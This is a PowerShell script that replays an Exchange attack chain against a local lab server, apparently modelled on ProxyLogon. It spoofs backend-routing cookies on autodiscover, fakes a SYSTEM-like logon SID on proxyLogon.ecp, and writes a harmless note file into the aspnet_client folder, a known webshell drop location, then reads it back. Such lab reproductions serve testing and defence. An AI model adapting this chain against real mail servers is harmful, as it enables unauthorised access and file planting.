# PowerShell port of the lab chain (Invoke-WebRequest)
param([int]$Port = 8080)
$Base = "http://127.0.0.1:$Port"
$Agent = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36'
$NotePath = '/aspnet_client/system_web/readme_91453.txt'

function Get-BrowserHeaders {
    [ordered]@{
        'x-requested-with' = 'XMLHttpRequest'
        'Accept'           = '*/*'
        'accept-language'  = 'en-US,en;q=0.9'
        'connection'       = 'close'
    }
}

$h = Get-BrowserHeaders
$h['cookie'] = 'X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522'
$pad = 'A' * 37
$uri = "$Base/autodiscover/autodiscover.json?Pad=$pad&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720"
$r = Invoke-WebRequest -Uri $uri -Method Get -Headers $h -UserAgent $Agent -TimeoutSec 10 -UseBasicParsing
if ($r.StatusCode -ge 500) { exit 1 }

$idHeaders = [ordered]@{
    'msexchlogonmailbox' = 'S-1-5-20'
    'X-BEResource'       = 'localhost@lab.invalid/ecp/proxyLogon.ecp'
}
$body = '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}'
$r = Invoke-WebRequest -Uri "$Base/ecp/proxyLogon.ecp" -Method Post -Headers $idHeaders -UserAgent $Agent `
    -ContentType 'application/json' -Body $body -TimeoutSec 10 -UseBasicParsing
$who = if ($r.StatusCode -eq 200 -and $r.Content.Trim()) { $r.Content.Trim() } else { 'anonymous' }

$note = (1..3 | ForEach-Object { "note $_ of 3 for $who" }) -join "`n"
Invoke-WebRequest -Uri "$Base$NotePath" -Method Post -Headers @{ 'X-Note-Path' = $NotePath } -UserAgent $Agent `
    -ContentType 'text/plain' -Body $note -TimeoutSec 10 -UseBasicParsing | Out-Null

$r = Invoke-WebRequest -Uri "$Base$NotePath" -Headers (Get-BrowserHeaders) -UserAgent $Agent -TimeoutSec 10 -UseBasicParsing
@{ read_back = $r.RawContentLength } | ConvertTo-Json
